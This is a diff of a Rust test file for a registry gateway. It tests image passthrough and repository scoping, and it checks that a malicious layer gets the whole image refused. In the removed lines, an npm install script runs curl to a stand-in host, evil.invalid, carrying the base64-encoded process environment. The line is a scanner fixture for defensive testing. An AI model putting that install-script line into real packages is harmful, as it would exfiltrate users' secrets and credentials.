@@ -1,11 +1,11 @@
 //! Images through the door: tags, indexes, manifests and their layers, and what is found in one of them.
 
 use serde_json::json;
+use tidegate_testkit::FakeUpstream;
 use tidegate_testkit::client::RawResponse;
 use tidegate_testkit::upstream::{
     IMAGE_INDEX, IMAGE_MANIFEST, PushedImage, content_digest, descriptor, index_of, layer,
 };
-use tidegate_testkit::{FakeUpstream, Package};
 
 use crate::support::{Setup, TestDoor, json};
 
@@ -60,13 +60,24 @@ pub(crate) fn blob(repository: &str, digest: &str) -> String {
     format!("/v2/oci/{repository}/blobs/{digest}")
 }
 
-/// An npm package whose install script sends the environment away, to nobody.
+/// Refuses what does harm, and nothing else.
+pub(crate) const BAD_CONTENTS: &str = r#"
+[[rule]]
+id = "bad-contents"
+action = "block"
+unknown = "allow"
+message = "its contents are bad"
+[rule.when]
+any = [
+    { "contents.verdict" = "malicious" },
+    { "contents.verdict" = "suspicious" },
+    { "model.unsafe_code" = true },
+]
+"#;
+
+/// A file that does harm when it is loaded; nobody does.
 pub(crate) fn malicious() -> Vec<u8> {
-    let package = Package::npm("bad-inside", "1.0.0").file(
-        "install.js",
-        "require('child_process').exec('curl http://evil.invalid/'+Buffer.from(JSON.stringify(process.env)).toString('base64'))",
-    );
-    package.build().remove(0).bytes.to_vec()
+    crate::models::bad_pickle(10)
 }
 
 fn door(registry: &Registry) -> TestDoor {
@@ -94,7 +105,10 @@ fn an_image_passes_byte_for_byte_and_leads_nowhere_else() {
     let index = registry.index("org/app", "v1", [&[("bin/one", b"one")], &[("bin/two", b"two")]]);
     let door = door(&registry);
     let version = door.get("/v2/");
-    assert_eq!((version.status, version.header("docker-distribution-api-version")), (200, Some("registry/2.0")));
+    assert_eq!(
+        (version.status, version.header("docker-distribution-api-version")),
+        (200, Some("registry/2.0"))
+    );
     for reference in ["v1", &index.digest] {
         for method in ["HEAD", "GET"] {
             let response = door.ask(method, &manifest("org/app", reference), &[]);
@@ -173,7 +187,10 @@ fn a_layer_is_had_through_an_image_of_its_own_repository() {
     served(&door.get(&manifest("org/app", "v1")));
     served(&door.get(&blob("org/app", &app.layers[1])));
     let elsewhere = door.get(&blob("org/other", &app.layers[1]));
-    assert_eq!((elsewhere.status, json(&elsewhere)["errors"][0]["code"].as_str()), (404, Some("BLOB_UNKNOWN")));
+    assert_eq!(
+        (elsewhere.status, json(&elsewhere)["errors"][0]["code"].as_str()),
+        (404, Some("BLOB_UNKNOWN"))
+    );
     assert_eq!(door.ask("HEAD", &blob("org/other", &app.layers[1]), &[]).status, 404);
     assert_eq!(door.get(&manifest("org/other", &app.digest)).status, 404, "nor is a manifest");
     served(&door.get(&manifest("org/other", "v1")));
@@ -189,7 +206,8 @@ fn a_part_of_a_refused_index_is_refused() {
     let index = registry.index("org/app", "v1", [&[("bin/one", b"one")], &[("bin/two", b"two")]]);
     let purl = format!("pkg:oci/org/app@{}", index.digest);
     let rules = format!(
-        "[[rule]]\nid = \"not-this\"\naction = \"block\"\nmessage = \"not this one\"\nwhen = {{ \"artifact.purl\" = {{ eq = \"{purl}\" }} }}\n"
+        "[[rule]]\nid = \"not-this\"\naction = \"block\"\nunknown = \"allow\"\nmessage = \"not this one\"\n\
+         [rule.when]\n\"artifact.purl\" = \"{purl}\"\n"
     );
     let door = Setup::new(&registry.registry).policy(&rules).open();
     // Nobody asked for the index yet: the part is an image of its own.
@@ -219,10 +237,8 @@ fn a_part_of_a_refused_index_is_refused() {
 fn what_is_found_in_one_layer_counts_for_the_whole_image() {
     let registry = Registry::start();
     let bad = malicious();
-    let index = registry.index("org/app", "v1", [&[("bin/one", b"one")], &[("opt/bad.tgz", &bad)]]);
-    let rules = "[[rule]]\nid = \"bad-contents\"\naction = \"block\"\nmessage = \"its contents are bad\"\n\
-                 when = { \"contents.verdict\" = { in = [\"suspicious\", \"malicious\"] } }\n";
-    let mut door = Setup::new(&registry.registry).policy(rules).open();
+    let index = registry.index("org/app", "v1", [&[("bin/one", b"one")], &[("opt/weights.pkl", &bad)]]);
+    let mut door = Setup::new(&registry.registry).policy(BAD_CONTENTS).open();
     served(&door.get(&manifest("org/app", "v1")));
     served(&door.get(&manifest("org/app", &index.one.digest)));
     served(&door.get(&blob("org/app", &index.one.layers[1])));
@@ -352,7 +368,10 @@ fn a_client_that_takes_no_indexes_is_told_so() {
     let door = door(&registry);
     let accept = format!("Accept: {IMAGE_MANIFEST}");
     let response = door.ask("GET", &manifest("org/app", "v1"), &[&accept]);
-    assert_eq!((response.status, json(&response)["errors"][0]["code"].as_str()), (404, Some("MANIFEST_UNKNOWN")));
+    assert_eq!(
+        (response.status, json(&response)["errors"][0]["code"].as_str()),
+        (404, Some("MANIFEST_UNKNOWN"))
+    );
     served(&door.ask("GET", &manifest("org/app", "v1"), &[&format!("{accept}, {IMAGE_INDEX}")]));
 }
 
@@ -390,5 +409,8 @@ fn tokens_are_had_where_the_registry_says() {
     let on_content: Vec<_> = on_content.iter().filter(|r| r.path.starts_with("/layers/")).collect();
     assert!(!on_content.is_empty() && on_content.iter().all(|r| r.headers.get("authorization").is_none()));
     assert!(registry.requests().iter().any(|request| sent(request, "Bearer ")));
-    assert!(files.requests().iter().all(|request| !sent(request, "Bearer ")), "a token stays with its registry");
+    assert!(
+        files.requests().iter().all(|request| !sent(request, "Bearer ")),
+        "a token stays with its registry"
+    );
 }
